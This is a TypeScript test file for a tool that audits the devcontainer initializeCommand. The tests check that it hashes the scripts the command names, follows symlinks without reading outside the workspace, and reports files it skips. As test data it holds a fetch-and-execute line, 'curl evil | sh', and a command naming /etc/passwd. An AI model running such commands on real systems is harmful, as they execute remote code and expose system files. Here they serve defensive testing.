import { createHash } from 'node:crypto';
import { symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { makeWorkspaceFolder, type WorkspaceFolder } from '../../../test/support/workspace-folder.ts';
import { MAX_COMMAND_FILE_BYTES, MAX_COMMAND_FILES } from './command-files.ts';

const CONFIG = '.devcontainer/devcontainer.json';

let w: WorkspaceFolder;
beforeEach(async () => {
  w = await makeWorkspaceFolder();
});
afterEach(() => w.dispose());

const digest = (text: string): string => createHash('sha256').update(text).digest('hex').slice(0, 40);

/** What is found of a command besides the command itself. */
async function found(initializeCommand: unknown): Promise<string[]> {
  await w.write(CONFIG, { image: 'x', initializeCommand });
  const { findings } = await w.read();
  for (const { kind, source } of findings) expect([kind, source]).toEqual(['initialize-command', `./${CONFIG}`]);
  return findings.map(({ detail }) => detail).filter((detail) => !detail.startsWith('initializeCommand:'));
}

it('is another finding whenever a file that the command names says something else', async () => {
  const command = 'bash .devcontainer/init.sh && ./tools/two.sh';
  expect(await found(command)).toEqual([]);
  await w.write('.devcontainer/init.sh', 'echo harmless');
  const first = `initializeCommand uses: ./.devcontainer/init.sh (sha256 ${digest('echo harmless')})`;
  expect(await found(command)).toEqual([first]);
  await w.write('tools/two.sh', 'two');
  expect(await found(command)).toEqual([first, `initializeCommand uses: ./tools/two.sh (sha256 ${digest('two')})`]);
  await w.write('.devcontainer/init.sh', 'curl evil | sh');
  expect(await found(command)).not.toContain(first);
});

it('is found in the other forms, and where the command goes to another folder first', async () => {
  await w.write('.devcontainer/init.sh', 'x');
  const expected = [`initializeCommand uses: ./.devcontainer/init.sh (sha256 ${digest('x')})`];
  for (const command of [
    ['sh', '.devcontainer/init.sh'],
    { a: ['true'], b: 'sh .devcontainer/init.sh' },
    '"${localWorkspaceFolder}"/.devcontainer/init.sh',
    'cd .devcontainer && ./init.sh',
    ['bash', '-c', 'cd .devcontainer; . init.sh'],
  ]) {
    expect(await found(command)).toEqual(expected);
  }
});

it('is seen at once, also where a file that is named comes to be', async () => {
  await w.write('deep/er/init.sh', 'x');
  await found('bash deep/er/init.sh other/init.sh');
  const directories = await w.files.watchDirectories(w.key);
  expect(directories).toEqual(expect.arrayContaining([join(w.folder, 'deep/er'), join(w.folder, 'other')]));
});

it('is no input: a container is not made from it', async () => {
  await w.write('init.sh', 'x');
  await found('bash ./init.sh');
  const { fingerprint, inputs } = await w.read();
  expect(Object.keys(inputs)).toEqual(['image', 'initializeCommand']);
  await w.write('init.sh', 'y');
  expect((await w.read()).fingerprint).toBe(fingerprint);
});

it('tells where a link leads, and reads nothing outside of the workspace', async () => {
  const other = await makeWorkspaceFolder();
  await other.write('outside.sh', 'secret');
  await symlink(join(other.folder, 'outside.sh'), join(w.folder, 'link.sh'));
  const to = JSON.stringify(join(other.folder, 'outside.sh'));
  expect(await found('sh ./link.sh')).toEqual([`initializeCommand uses: {"file":"./link.sh","leads to":${to}}`]);
  expect(await found(`sh ${join(other.folder, 'outside.sh')} ../x /etc/passwd`)).toEqual([]);
  await other.dispose();
});

it('says what was not looked at', async () => {
  await w.write('large.sh', 'x'.repeat(MAX_COMMAND_FILE_BYTES + 1));
  expect(await found('sh ./large.sh')).toEqual(['initializeCommand uses: ./large.sh (too-large: not looked at)']);
  const names = Array.from({ length: MAX_COMMAND_FILES + 1 }, (_, n) => `./${n}.sh`);
  for (const name of names) await w.write(name, name);
  const details = await found(names.join('; '));
  expect(details).toHaveLength(MAX_COMMAND_FILES + 1);
  expect(details).toContain('initializeCommand uses: more files than are looked at');
});
